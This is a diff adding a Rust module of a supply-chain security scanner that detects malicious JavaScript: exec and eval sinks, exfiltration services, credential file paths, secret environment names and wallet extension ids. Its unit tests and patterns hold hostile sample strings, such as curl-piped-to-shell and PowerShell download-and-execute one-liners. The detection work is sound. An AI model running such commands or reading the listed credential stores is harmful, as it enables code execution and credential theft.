@@ -1,0 +1,727 @@
+//! Shared vocabulary of H3's per-file JavaScript rules (shell-exec, dynamic-code, encoded-payload,
+//! obfuscation, env-harvest, credential-files, exfil-sink): which canonical callees are process,
+//! code-execution and network sinks, which hosts are exfiltration services, which paths hold
+//! credentials. Rules combine these (a data source and a sink in the same file) rather than
+//! flagging single APIs at high severity.
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use crate::facts::{Call, FileFacts, Value};
+use crate::rules::RuleInfo;
+
+/// `node:child_process` → `child_process`, `globalThis.eval` → `eval`.
+pub fn normalize(callee: &str) -> &str {
+    let mut callee = callee.strip_prefix("node:").unwrap_or(callee);
+    for prefix in ["globalThis.", "window.", "global.", "self."] {
+        if let Some(rest) = callee.strip_prefix(prefix) {
+            callee = rest;
+        }
+    }
+    callee
+}
+
+/// Process execution: `child_process.*` and the popular wrappers around it.
+pub fn is_exec(callee: &str) -> bool {
+    let callee = normalize(callee);
+    if let Some(method) = callee.strip_prefix("child_process.") {
+        return matches!(
+            method,
+            "exec" | "execSync" | "spawn" | "spawnSync" | "execFile" | "execFileSync" | "fork"
+        ) || method.starts_with("promises.");
+    }
+    matches!(
+        callee,
+        "execa"
+            | "execa.execa"
+            | "execa.execaSync"
+            | "execa.command"
+            | "execa.commandSync"
+            | "execa.sync"
+            | "execa.$"
+            | "shelljs.exec"
+            | "cross-spawn"
+            | "cross-spawn.sync"
+            | "process.binding"
+            | "util.promisify(child_process.exec)"
+    )
+}
+
+/// Code execution from strings.
+pub fn is_eval(call: &Call) -> bool {
+    let callee = normalize(&call.callee);
+    matches!(
+        callee,
+        "eval"
+            | "Function"
+            | "vm.runInThisContext"
+            | "vm.runInNewContext"
+            | "vm.runInContext"
+            | "vm.Script"
+            | "vm.compileFunction"
+            | "vm.SourceTextModule"
+    ) || callee.ends_with("._compile")
+}
+
+/// Network clients: Node's modules, fetch, XHR, WebSocket and the popular HTTP libraries.
+pub fn is_network(callee: &str) -> bool {
+    let callee = normalize(callee);
+    let module = callee.split('.').next().unwrap_or(callee);
+    matches!(
+        module,
+        "http"
+            | "https"
+            | "http2"
+            | "net"
+            | "tls"
+            | "dgram"
+            | "dns"
+            | "fetch"
+            | "node-fetch"
+            | "cross-fetch"
+            | "axios"
+            | "got"
+            | "request"
+            | "needle"
+            | "superagent"
+            | "undici"
+            | "ws"
+            | "WebSocket"
+            | "XMLHttpRequest"
+            | "socket.io-client"
+            | "phin"
+            | "bent"
+            | "ky"
+    ) || callee == "navigator.sendBeacon"
+}
+
+/// Does this file talk to the network (or run curl/wget/Invoke-WebRequest)?
+pub fn has_network(file: &FileFacts) -> bool {
+    file.calls.iter().any(|c| is_network(&c.callee))
+        || file
+            .calls
+            .iter()
+            .any(|c| is_exec(&c.callee) && command_text(c).is_some_and(|t| is_download_command(&t)))
+}
+
+/// The known text of a value: strings, and arrays of strings joined with spaces (spawn argv).
+pub fn value_text(value: &Value) -> Option<String> {
+    match value {
+        Value::Str { value, .. } => Some(value.clone()),
+        Value::Array { items } => {
+            let parts: Vec<String> = items.iter().filter_map(value_text).collect();
+            (!parts.is_empty()).then(|| parts.join(" "))
+        }
+        _ => None,
+    }
+}
+
+/// Whether any part of the value went through a decoder.
+pub fn value_decoded(value: &Value) -> bool {
+    match value {
+        Value::Str { decoded, .. } => *decoded,
+        Value::Array { items } => items.iter().any(value_decoded),
+        Value::Object { entries } => entries.iter().any(|(_, v)| value_decoded(v)),
+        _ => false,
+    }
+}
+
+/// Values the analyzer could not resolve to a constant: computed at run time.
+pub fn is_computed(value: &Value) -> bool {
+    match value {
+        Value::Str { .. } | Value::Num { .. } | Value::Bool { .. } => false,
+        Value::Array { items } => items.iter().any(is_computed),
+        _ => true,
+    }
+}
+
+/// The command line of an exec-like call: the command plus, for spawn/execFile, its argv.
+pub fn command_text(call: &Call) -> Option<String> {
+    let mut text = value_text(call.args.first()?)?;
+    if let Some(argv @ Value::Array { .. }) = call.args.get(1) {
+        if let Some(rest) = value_text(argv) {
+            text.push(' ');
+            text.push_str(&rest);
+        }
+    }
+    Some(text)
+}
+
+/// The options object of a spawn-like call (`{ detached: true, stdio: 'ignore' }`).
+pub fn options_object(call: &Call) -> Option<&[(String, Value)]> {
+    call.args.iter().rev().find_map(|a| match a {
+        Value::Object { entries } => Some(entries.as_slice()),
+        _ => None,
+    })
+}
+
+pub fn object_get<'a>(entries: &'a [(String, Value)], key: &str) -> Option<&'a Value> {
+    entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
+}
+
+/// `curl … | sh`, `wget -O- … | bash`, `iwr … | iex`, `DownloadString`, `curl -o x && chmod +x x`.
+pub fn is_download_command(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    let downloads = [
+        "curl ",
+        "wget ",
+        "invoke-webrequest",
+        "iwr ",
+        "downloadstring",
+        "downloadfile",
+        "bitsadmin",
+        "certutil -urlcache",
+    ]
+    .iter()
+    .any(|d| lower.contains(d));
+    downloads && (lower.contains("http") || lower.contains("ftp:"))
+}
+
+/// The download result is executed: piped to a shell, `iex`, or saved, chmodded and run.
+pub fn is_download_and_run(text: &str) -> bool {
+    if !is_download_command(text) {
+        return false;
+    }
+    let lower = text.to_ascii_lowercase();
+    let piped = lower.split('|').skip(1).any(|stage| {
+        let stage = stage.trim_start();
+        [
+            "sh",
+            "bash",
+            "zsh",
+            "sudo",
+            "iex",
+            "invoke-expression",
+            "node",
+            "python",
+            "perl",
+            "powershell",
+        ]
+        .iter()
+        .any(|shell| stage.starts_with(shell))
+    });
+    piped
+        || lower.contains("iex(")
+        || lower.contains("iex (")
+        || lower.contains("invoke-expression")
+        || (lower.contains("chmod") && lower.contains("+x"))
+        || lower.contains("start-process")
+        || ((lower.contains(" -o ") || lower.contains(" -outfile "))
+            && lower.contains('&')
+            && (lower.contains(".exe") || lower.contains("start ")))
+}
+
+/// Hosts named in `http(s)://`, `ws(s)://` URLs inside a string.
+pub fn url_hosts(text: &str) -> Vec<String> {
+    let mut hosts = Vec::new();
+    let lower = text.to_ascii_lowercase();
+    let mut rest = lower.as_str();
+    while let Some(pos) = rest.find("://") {
+        let scheme_start = rest[..pos]
+            .rfind(|c: char| !c.is_ascii_alphanumeric())
+            .map_or(0, |i| i + 1);
+        let scheme = &rest[scheme_start..pos];
+        let after = &rest[pos + 3..];
+        if matches!(scheme, "http" | "https" | "ws" | "wss" | "ftp") {
+            let end = after
+                .find(['/', '?', '#', '"', '\'', '`', ' ', '\\'])
+                .unwrap_or(after.len());
+            let authority = &after[..end];
+            let authority = authority.rsplit('@').next().unwrap_or(authority);
+            let host = if authority.starts_with('[') {
+                authority.split(']').next().unwrap_or(authority).trim_start_matches('[')
+            } else {
+                authority.split(':').next().unwrap_or(authority)
+            };
+            if !host.is_empty() && hosts.len() < 64 {
+                hosts.push(host.to_string());
+            }
+        }
+        rest = after;
+    }
+    hosts
+}
+
+/// Hosts a network call targets: URLs in its string arguments and `host`/`hostname` options.
+pub fn call_hosts(call: &Call) -> Vec<String> {
+    let mut hosts = Vec::new();
+    for arg in &call.args {
+        match arg {
+            Value::Str { value, .. } => {
+                hosts.extend(url_hosts(value));
+                // net.connect(port, '1.2.3.4') / socket.connect(port, host)
+                if is_public_ipv4(value) {
+                    hosts.push(value.clone());
+                }
+            }
+            Value::Object { entries } => {
+                for key in ["hostname", "host"] {
+                    if let Some(Value::Str { value, .. }) = object_get(entries, key) {
+                        hosts.push(value.split(':').next().unwrap_or(value).to_ascii_lowercase());
+                    }
+                }
+                if let Some(Value::Str { value, .. }) = object_get(entries, "url") {
+                    hosts.extend(url_hosts(value));
+                }
+            }
+            _ => {}
+        }
+    }
+    hosts
+}
+
+/// A literal IPv4 address that is routable on the internet (not loopback, private,
+/// link-local, documentation or a well-known public DNS resolver).
+pub fn is_public_ipv4(host: &str) -> bool {
+    let Ok(ip) = host.parse::<std::net::Ipv4Addr>() else {
+        return false;
+    };
+    let o = ip.octets();
+    let resolvers = [
+        "8.8.8.8",
+        "8.8.4.4",
+        "1.1.1.1",
+        "1.0.0.1",
+        "9.9.9.9",
+        "208.67.222.222",
+        "208.67.220.220",
+    ];
+    !(ip.is_loopback()
+        || ip.is_private()
+        || ip.is_link_local()
+        || ip.is_unspecified()
+        || ip.is_broadcast()
+        || ip.is_documentation()
+        || ip.is_multicast()
+        || o[0] == 0
+        || o[0] >= 240
+        || (o[0] == 100 && (64..128).contains(&o[1]))
+        || resolvers.contains(&host))
+}
+
+/// Exfiltration and collaboration services: webhooks, request catchers, paste sites,
+/// tunnels and out-of-band interaction (OAST) servers.
+pub fn exfil_service(host: &str, text: &str) -> Option<&'static str> {
+    let host = host.trim_end_matches('.');
+    let lower = text.to_ascii_lowercase();
+    let ends = |suffix: &str| host == suffix || host.ends_with(&format!(".{suffix}"));
+    // Discord and Telegram: only hard-coded credentials in the URL are attacker shaped; API
+    // clients build these from variables.
+    if (ends("discord.com") || ends("discordapp.com")) && has_webhook_credentials(&lower) {
+        return Some("a Discord webhook");
+    }
+    if ends("api.telegram.org") && has_telegram_token(&lower) {
+        return Some("a Telegram bot");
+    }
+    const SERVICES: &[(&str, &str)] = &[
+        ("webhook.site", "webhook.site"),
+        ("pipedream.net", "a Pipedream request bin"),
+        ("m.pipedream.net", "a Pipedream request bin"),
+        ("requestbin.net", "a request bin"),
+        ("requestbin.com", "a request bin"),
+        ("requestcatcher.com", "a request catcher"),
+        ("beeceptor.com", "a request catcher"),
+        ("hookbin.com", "a request bin"),
+        ("ngrok.io", "an ngrok tunnel"),
+        ("ngrok-free.app", "an ngrok tunnel"),
+        ("ngrok.app", "an ngrok tunnel"),
+        ("ngrok.dev", "an ngrok tunnel"),
+        ("trycloudflare.com", "a Cloudflare quick tunnel"),
+        ("serveo.net", "a tunnel"),
+        ("localtunnel.me", "a tunnel"),
+        ("loca.lt", "a tunnel"),
+        ("oast.fun", "an out-of-band interaction (OAST) server"),
+        ("oast.pro", "an out-of-band interaction (OAST) server"),
+        ("oast.live", "an out-of-band interaction (OAST) server"),
+        ("oast.site", "an out-of-band interaction (OAST) server"),
+        ("oast.online", "an out-of-band interaction (OAST) server"),
+        ("oast.me", "an out-of-band interaction (OAST) server"),
+        ("interact.sh", "an out-of-band interaction (OAST) server"),
+        ("interactsh.com", "an out-of-band interaction (OAST) server"),
+        ("burpcollaborator.net", "Burp Collaborator"),
+        ("oastify.com", "Burp Collaborator"),
+        ("canarytokens.com", "a canary token"),
+        ("dnslog.cn", "a DNS logger"),
+        ("ceye.io", "a DNS logger"),
+        ("pastebin.com", "a paste site"),
+        ("hastebin.com", "a paste site"),
+        ("paste.ee", "a paste site"),
+        ("ghostbin.com", "a paste site"),
+        ("transfer.sh", "a file drop"),
+        ("file.io", "a file drop"),
+        ("0x0.st", "a file drop"),
+        ("bashupload.com", "a file drop"),
+        ("temp.sh", "a file drop"),
+        ("anonfiles.com", "a file drop"),
+    ];
+    SERVICES
+        .iter()
+        .find(|(suffix, _)| ends(suffix))
+        .map(|(_, label)| *label)
+}
+
+fn has_webhook_credentials(lower: &str) -> bool {
+    let Some(pos) = lower.find("/api/webhooks/") else {
+        return false;
+    };
+    let rest = &lower[pos + "/api/webhooks/".len()..];
+    let digits = rest.chars().take_while(char::is_ascii_digit).count();
+    digits >= 15
+}
+
+fn has_telegram_token(lower: &str) -> bool {
+    let Some(pos) = lower.find("/bot") else {
+        return false;
+    };
+    let rest = &lower[pos + 4..];
+    let digits = rest.chars().take_while(char::is_ascii_digit).count();
+    digits >= 6 && rest[digits..].starts_with(':')
+}
+
+/// Environment variable names that hold credentials.
+pub fn is_secret_env_name(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    const EXACT: &[&str] = &[
+        "NPM_TOKEN",
+        "NODE_AUTH_TOKEN",
+        "NPM_CONFIG__AUTH",
+        "GITHUB_TOKEN",
+        "GH_TOKEN",
+        "GITLAB_TOKEN",
+        "CI_JOB_TOKEN",
+        "AWS_ACCESS_KEY_ID",
+        "AWS_SECRET_ACCESS_KEY",
+        "AWS_SESSION_TOKEN",
+        "AZURE_CLIENT_SECRET",
+        "GOOGLE_APPLICATION_CREDENTIALS",
+        "SLACK_TOKEN",
+        "DOCKER_PASSWORD",
+        "HEROKU_API_KEY",
+    ];
+    EXACT.contains(&upper.as_str())
+        || [
+            "SECRET",
+            "TOKEN",
+            "PASSWORD",
+            "PASSWD",
+            "PRIVATE_KEY",
+            "API_KEY",
+            "ACCESS_KEY",
+        ]
+        .iter()
+        .any(|part| upper.contains(part))
+        || upper.ends_with("_KEY")
+}
+
+/// The service a secret variable belongs to (`GH_TOKEN` and `GITHUB_TOKEN` → `GITHUB`): an SDK
+/// reads its own service's secrets, a harvester collects several services'.
+pub fn secret_service(name: &str) -> String {
+    let upper = name.to_ascii_uppercase();
+    let first = upper
+        .split('_')
+        .find(|part| !part.is_empty())
+        .unwrap_or(&upper)
+        .to_string();
+    match first.as_str() {
+        "GH" => "GITHUB".to_string(),
+        "NODE" if upper == "NODE_AUTH_TOKEN" => "NPM".to_string(),
+        _ => first,
+    }
+}
+
+/// A class of secret a file names by path, endpoint or command.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum CredentialKind {
+    Npmrc,
+    Ssh,
+    AwsCredentials,
+    GhHosts,
+    GitCredentials,
+    GhAuthToken,
+    Browser,
+    Wallet,
+    SecretScanner,
+    Docker,
+    Kube,
+    Gcloud,
+    CloudMetadata,
+}
+
+impl CredentialKind {
+    pub fn label(self) -> &'static str {
+        match self {
+            CredentialKind::Npmrc => "npm tokens (~/.npmrc)",
+            CredentialKind::Ssh => "SSH keys (~/.ssh)",
+            CredentialKind::AwsCredentials => "AWS credentials (~/.aws/credentials)",
+            CredentialKind::GhHosts => "GitHub CLI tokens (gh/hosts.yml)",
+            CredentialKind::GitCredentials => "git credentials (.git-credentials)",
+            CredentialKind::GhAuthToken => "the GitHub CLI token (`gh auth token`)",
+            CredentialKind::Browser => "browser passwords and cookies",
+            CredentialKind::Wallet => "crypto-wallet data",
+            CredentialKind::SecretScanner => "a secret scanner (trufflehog/gitleaks)",
+            CredentialKind::Docker => "Docker registry credentials",
+            CredentialKind::Kube => "Kubernetes credentials",
+            CredentialKind::Gcloud => "Google Cloud credentials",
+            CredentialKind::CloudMetadata => "the cloud instance metadata endpoint",
+        }
+    }
+
+    /// Kinds that legitimate SDKs read routinely (cloud SDKs, container clients): weak alone.
+    pub fn is_weak(self) -> bool {
+        matches!(
+            self,
+            CredentialKind::Docker | CredentialKind::Kube | CredentialKind::Gcloud | CredentialKind::CloudMetadata
+        )
+    }
+}
+
+/// Browser extension ids of crypto wallets (Chrome Web Store ids are stable).
+const WALLET_EXTENSION_IDS: &[&str] = &[
+    "nkbihfbeogaeaoehlefnkodbefgpgknn", // MetaMask
+    "bfnaelmomeimhlpmgjnjophhpkkoljpa", // Phantom
+    "hnfanknocfeofbddgcijnmhnfnkdnaad", // Coinbase Wallet
+    "ibnejdfjmmkpcnlpebklmnkoeoihofec", // TronLink
+    "fhbohimaelbohpjbbldcngcnapndodjp", // Binance Wallet
+    "egjidjbpglichdcondbcbdnbeeppgdph", // Trust Wallet
+    "aholpfdialjgjfhomihkjbmgjidlcdno", // Exodus Web3
+    "ejbalbakoplchlghecdalmeeeajnimhm", // MetaMask (Edge)
+    "acmacodkjbdgmoleebolmdjonilkdbch", // Rabby
+    "dmkamcknogkgcdfhhbddcghachkejeap", // Keplr
+];
+
+/// The credential classes a string names. `~` is the home directory as folded by the extractor.
+pub fn credential_kinds(text: &str) -> Vec<CredentialKind> {
+    let mut kinds = Vec::new();
+    if text.len() > 4096 {
+        return kinds;
+    }
+    let lower = text.to_ascii_lowercase();
+    let lower = lower.replace('\\', "/");
+    let has = |needle: &str| lower.contains(needle);
+    if has("~/.npmrc") || has("/.npmrc") || has("$home/.npmrc") || has("cat .npmrc") {
+        kinds.push(CredentialKind::Npmrc);
+    }
+    if has("~/.ssh")
+        || has("/.ssh/")
+        || lower.ends_with("/.ssh")
+        || has(".ssh/id_")
+        || has("id_rsa")
+        || has("id_ed25519")
+    {
+        kinds.push(CredentialKind::Ssh);
+    }
+    if has(".aws/credentials") {
+        kinds.push(CredentialKind::AwsCredentials);
+    }
+    if has("gh/hosts.yml") {
+        kinds.push(CredentialKind::GhHosts);
+    }
+    if has(".git-credentials") {
+        kinds.push(CredentialKind::GitCredentials);
+    }
+    if has("gh auth token") || has("gh auth status --show-token") {
+        kinds.push(CredentialKind::GhAuthToken);
+    }
+    let browser_dir = has("chrome/user data")
+        || has("google/chrome")
+        || has("bravesoftware")
+        || has("microsoft/edge")
+        || has("mozilla/firefox")
+        || has("opera software")
+        || has("yandexbrowser")
+        || has("chromium/");
+    if has("login data")
+        || has("logins.json")
+        || has("key4.db")
+        || has("cookies.sqlite")
+        || (browser_dir && (has("local state") || has("cookies") || has("web data") || has("/default")))
+    {
+        kinds.push(CredentialKind::Browser);
+    }
+    if WALLET_EXTENSION_IDS.iter().any(|id| has(id))
+        || has("exodus.wallet")
+        || has("exodus/")
+        || has("electrum/wallets")
+        || has("atomic/local storage")
+        || has("ethereum/keystore")
+        || has("solana/id.json")
+        || has("wallet.dat")
+        || has("com.liberty.jaxx")
+        || has("guarda/local storage")
+    {
+        kinds.push(CredentialKind::Wallet);
+    }
+    if has("trufflehog") || has("gitleaks") {
+        kinds.push(CredentialKind::SecretScanner);
+    }
+    if has(".docker/config.json") {
+        kinds.push(CredentialKind::Docker);
+    }
+    if has(".kube/config") {
+        kinds.push(CredentialKind::Kube);
+    }
+    if has("gcloud/credentials.db")
+        || has("gcloud/application_default_credentials.json")
+        || has("gcloud/access_tokens.db")
+    {
+        kinds.push(CredentialKind::Gcloud);
+    }
+    if has("169.254.169.254") || has("metadata.google.internal") || has("169.254.170.2") || has("fd00:ec2::254") {
+        kinds.push(CredentialKind::CloudMetadata);
+    }
+    kinds
+}
+
+/// Every string a file holds: string constants and the known string arguments of calls
+/// (the extractor may fold arguments it does not list as constants).
+pub fn file_strings(file: &FileFacts) -> impl Iterator<Item = (&str, bool, u32)> + '_ {
+    let constants = file.strings.iter().map(|s| (s.value.as_str(), s.decoded, s.line));
+    let args = file.calls.iter().flat_map(|c| {
+        c.args.iter().filter_map(move |a| match a {
+            Value::Str { value, decoded } => Some((value.as_str(), *decoded, c.line)),
+            _ => None,
+        })
+    });
+    constants.chain(args)
+}
+
+/// A finding of `info`'s rule in `file` at `line`, with the line's text as evidence.
+pub fn finding(
+    info: &RuleInfo,
+    file: &FileFacts,
+    line: u32,
+    severity: Severity,
+    confidence: Confidence,
+    message: impl Into<String>,
+    evidence: Option<&str>,
+) -> Finding {
+    let evidence = evidence
+        .map(str::to_string)
+        .or_else(|| file.line_text(line))
+        .unwrap_or_default();
+    let capabilities: &[Capability] = info.capabilities;
+    let finding = Finding::new(info.id, severity, confidence, message)
+        .at(file.path.clone(), (line > 0).then_some(line))
+        .with_capabilities(capabilities);
+    if evidence.is_empty() {
+        finding
+    } else {
+        finding.with_evidence(evidence)
+    }
+}
+
+/// Evidence for a call: the extractor's excerpt, else the line.
+pub fn call_evidence(file: &FileFacts, call: &Call) -> String {
+    if call.excerpt.is_empty() {
+        file.line_text(call.line).unwrap_or_default()
+    } else {
+        call.excerpt.clone()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn hosts_are_parsed_from_urls() {
+        assert_eq!(
+            url_hosts("curl https://user@Evil.example:8443/x?y"),
+            vec!["evil.example"]
+        );
+        assert_eq!(
+            url_hosts("a http://1.2.3.4/ b wss://x.oast.fun"),
+            vec!["1.2.3.4", "x.oast.fun"]
+        );
+        assert!(url_hosts("no url here").is_empty());
+    }
+
+    #[test]
+    fn public_ips_exclude_private_and_resolvers() {
+        assert!(is_public_ipv4("45.77.1.2"));
+        for host in [
+            "127.0.0.1",
+            "10.0.0.1",
+            "192.168.1.1",
+            "8.8.8.8",
+            "169.254.169.254",
+            "example.com",
+        ] {
+            assert!(!is_public_ipv4(host), "{host}");
+        }
+    }
+
+    #[test]
+    fn exfil_services_need_the_attacker_shape() {
+        assert!(exfil_service("abc.oast.fun", "").is_some());
+        assert!(exfil_service("webhook.site", "https://webhook.site/x").is_some());
+        assert!(exfil_service("discord.com", "https://discord.com/api/webhooks/123456789012345678/abc").is_some());
+        assert!(exfil_service("discord.com", "https://discord.com/api/v10").is_none());
+        assert!(exfil_service(
+            "api.telegram.org",
+            "https://api.telegram.org/bot123456789:AAE/sendMessage"
+        )
+        .is_some());
+        assert!(exfil_service("api.telegram.org", "https://api.telegram.org/bot").is_none());
+        assert!(exfil_service("api.github.com", "https://api.github.com/repos").is_none());
+    }
+
+    #[test]
+    fn credential_paths_are_classified() {
+        assert_eq!(credential_kinds("~/.npmrc"), vec![CredentialKind::Npmrc]);
+        assert!(
+            credential_kinds(".npmrc").is_empty(),
+            "a bare file name (ignore lists) is not a read"
+        );
+        assert_eq!(
+            credential_kinds("C:\\Users\\x\\.aws\\credentials"),
+            vec![CredentialKind::AwsCredentials]
+        );
+        assert_eq!(
+            credential_kinds("~/Library/Application Support/Google/Chrome/Default/Login Data"),
+            vec![CredentialKind::Browser]
+        );
+        assert_eq!(
+            credential_kinds("Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"),
+            vec![CredentialKind::Wallet]
+        );
+    }
+
+    #[test]
+    fn download_and_run_commands() {
+        assert!(is_download_and_run("curl -fsSL https://x.example/a.sh | sh"));
+        assert!(is_download_and_run(
+            "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://x')\""
+        ));
+        assert!(!is_download_and_run("curl https://x.example/a.json -o a.json"));
+        assert!(!is_download_and_run("git rev-parse HEAD"));
+        assert!(is_download_and_run(
+            "cmd /c curl http://x.example/u.exe -o %TEMP%\\u.exe && start %TEMP%\\u.exe"
+        ));
+    }
+
+    #[test]
+    fn secret_env_names() {
+        for name in [
+            "NPM_TOKEN",
+            "GITHUB_TOKEN",
+            "AWS_ACCESS_KEY_ID",
+            "STRIPE_SECRET_KEY",
+            "DB_PASSWORD",
+            "OPENAI_API_KEY",
+        ] {
+            assert!(is_secret_env_name(name), "{name}");
+        }
+        for name in [
+            "NODE_ENV",
+            "HOME",
+            "PATH",
+            "CI",
+            "DEBUG",
+            "PORT",
+            "AWS_REGION",
+            "AWS_PROFILE",
+        ] {
+            assert!(!is_secret_env_name(name), "{name}");
+        }
+    }
+}
